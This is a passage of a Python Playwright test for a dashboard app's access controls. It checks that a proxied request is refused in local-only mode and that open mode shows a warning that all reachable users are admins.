        proxied = browser.new_page(extra_http_headers={"X-Forwarded-For": "203.0.113.9"})
        proxied.goto(f"{app.base}/overview", timeout=60_000)
        wait_for_app_run(proxied, sync_api)
        expect(proxied.get_by_text("This dashboard opens only on the computer")).to_be_visible()
        assert proxied.get_by_test_id("stMetric").count() == 0
        proxied.close()
    finally:
        app.stop()

    opened = App(xs_demo_url, tmp_path / "open.log", address="0.0.0.0",
                 env={"CRM_ALLOW_REMOTE_NONE": "1"})  # fmt: skip
    try:
        opened.wait_healthy()
        page = open_page(browser, sync_api, f"http://{here}:{opened.port}/overview")
        expect(page.get_by_text("everyone who can reach this server is an admin")).to_be_visible()
        expect(metric_value(page, "Won deals")).to_be_visible()
        screenshot_without_exception(page, "open-mode.png")
        page.close()
    finally:
        opened.stop()
